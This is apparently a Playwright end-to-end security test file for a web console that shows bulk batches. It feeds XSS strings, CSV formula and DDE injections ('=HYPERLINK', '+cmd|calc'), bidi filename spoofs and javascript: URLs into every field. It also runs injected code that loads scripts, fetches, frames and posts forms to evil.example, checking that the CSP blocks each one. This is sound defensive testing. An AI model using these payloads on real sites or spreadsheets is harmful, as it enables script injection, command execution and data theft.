import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { batchSchema } from '../../../infra/local/demo/batch.ts';
import { findChromium, openChromium } from '../../support/browser/chromium.ts';
import { ConsolePage } from '../../support/browser/console-page.ts';
import { eventually, localUser, System } from '../../support/e2e/system.ts';

const chromium = findChromium();

/** What people and machines may put into any field. */
const hostile = [
  '<img src=x onerror="globalThis.hacked=1">',
  '"><script>globalThis.hacked=1</script>',
  '=HYPERLINK("https://evil.example","click")',
  '+cmd|calc',
  '\u202egnp.exe',
  '\u2066\u2067שלום',
  `long ${'x'.repeat(10_000)}`,
  'javascript:globalThis.hacked=1',
];

let system: System;
let browser: Browser;

describe.skipIf(chromium === undefined)('the page of the console', () => {
  beforeAll(async () => {
    system = await System.start(['ann', 'ben'].map((name) => localUser(`${name}@safe.example`)));
    browser = await openChromium(chromium ?? '');
    await sendHostile();
  });

  afterAll(async () => {
    await browser?.close();
    await system?.stop();
  });

  const open = (path = '', options = {}) =>
    ConsolePage.open(browser, `${system.functions.url}/api/console${path}`, options);

  /** A batch with hostile values in each field, from the queue as an HR system would send it, and a proper entry. */
  async function sendHostile(): Promise<void> {
    const entries = [
      ...hostile.map((text) => ({ user: text, target: text, ref: text.slice(0, 200) })),
      { user: 'ann@safe.example', target: '+14255550123', ref: hostile[0] },
    ];
    const message = { schema: 'simring/bulk/1', batch: 'hostile', source: hostile[0], entries };
    await system.queue('simring-bulk').sendMessage(JSON.stringify(message));
    await eventually(
      () => system.call('GET', '/api/bulk/hostile'),
      ({ status, body }) => status === 200 && batchSchema.parse(body).finished,
    );
  }

  const isHacked = (page: Page) => page.evaluate(() => 'hacked' in globalThis);

  it('shows hostile values as text, whichever field they are in', async () => {
    for (const path of ['', '/hostile', '#users']) {
      const console = await open(path);
      await console.see(path === '#users' ? 'ann@safe.example' : 'hostile');
      await console.page.getByRole('table').waitFor();
      expect(await isHacked(console.page)).toBe(false);
      expect(await console.page.locator('main img, main script, main a[href^="javascript"]').count()).toBe(0);
      expect(console.errors).toEqual([]);
      await console.close();
    }
  });

  it('does nothing with a hostile name of a batch or a user in its own address', async () => {
    const console = await open();
    for (const text of hostile.filter((_text, nth) => nth % 2 === 0)) {
      for (const path of [
        `/${encodeURIComponent(text.slice(0, 500))}`,
        `#user=${encodeURIComponent(text)}`,
      ]) {
        await console.page.goto('about:blank');
        await console.page.goto(`${system.functions.url}/api/console${path}`);
        await console.page.getByRole('alert').first().waitFor();
        expect(await isHacked(console.page)).toBe(false);
      }
    }
    await console.close();
  });

  it('shows a file with hostile content and a hostile name as text', async () => {
    const console = await open();
    const rows = hostile.map((text) => `"${text.replaceAll('"', '""')}",+14255550123`);
    await console.choose('<img src=x onerror=globalThis.hacked=1>.csv', `user,target\n${rows.join('\n')}\n`);
    await console.see('8 of 8 entries are wrong');
    expect(await isHacked(console.page)).toBe(false);
    await console.close();
  });

  it('offers a report in which no cell begins as a formula', async () => {
    const console = await open('/hostile');
    await console.see(/Finished/);
    const report = await console.download('Download the report as CSV');
    const cells = report.split(/\r?\n|,/).map((cell) => cell.replace(/^"/, ''));
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(report).toContain("'=HYPERLINK");
    await console.close();
  });

  it.each([
    [
      'an inline script',
      `document.head.append(Object.assign(document.createElement('script'), { text: 'globalThis.hacked = 1' }))`,
    ],
    [
      'a foreign script',
      `document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }))`,
    ],
    [
      'an inline handler',
      `document.body.setAttribute('onclick', 'globalThis.hacked = 1'); document.body.click()`,
    ],
    ['eval', `setTimeout('globalThis.hacked = 1', 0)`],
    ['markup from text', `document.body.innerHTML = '<b>x</b>'`],
    ['an inline style', `document.body.setAttribute('style', 'display: none')`],
    [
      'a picture from elsewhere',
      `document.body.append(Object.assign(new Image(), { src: 'https://evil.example/x.png' }))`,
    ],
    ['a request elsewhere', `fetch('https://evil.example/')`],
    [
      'a frame',
      `document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))`,
    ],
    [
      'a form that posts elsewhere',
      `{ const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' }); document.body.append(form); form.submit(); }`,
    ],
  ])('does not allow %s', async (_what, code) => {
    const console = await open();
    await console.see('Send a file');
    const violated = console.page.evaluate(
      () =>
        new Promise((resolve) =>
          document.addEventListener('securitypolicyviolation', (event) => resolve(event.violatedDirective), {
            once: true,
          }),
        ),
    );
    // A script of the page itself, as a fault in it would be: it comes through a tool of the browser, which no policy stops.
    await console.page.evaluate(code).catch(() => {});
    expect(await violated).toMatch(/-src|trusted-types|form-action/);
    expect(await isHacked(console.page)).toBe(false);
    await console.close();
  });

  it('cannot be framed, is not stored, and names no other origin', async () => {
    const response = await fetch(`${system.functions.url}/api/console`);
    const policy = response.headers.get('content-security-policy') ?? '';
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).not.toContain('unsafe');
    expect(policy).not.toMatch(/https?:/);
    expect(response.headers.get('referrer-policy')).toBe('no-referrer');
    expect(await response.text()).not.toMatch(/https?:/);
  });

  it.each([
    { viewport: { width: 360, height: 740 }, colorScheme: 'light' },
    { viewport: { width: 360, height: 740 }, colorScheme: 'dark' },
    { viewport: { width: 1280, height: 900 }, colorScheme: 'light' },
    { viewport: { width: 1280, height: 900 }, colorScheme: 'dark' },
  ])('is accessible, $viewport.width pixels wide and $colorScheme', async (options) => {
    for (const [path, text] of [
      ['', 'hostile'],
      ['/hostile', /Finished/],
      ['#users', 'ann@safe.example'],
      ['#user=ann@safe.example', 'contact tel:'],
      ['/absent', 'There is no batch'],
    ] as const) {
      const console = await open(path, { ...options, bypassCSP: true, reducedMotion: 'reduce' });
      await console.see(text);
      await console.expectAccessible();
      const excess = await console.page.evaluate(
        () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
      );
      expect(excess, path).toBeLessThanOrEqual(0);
      await console.close();
    }
  });
});
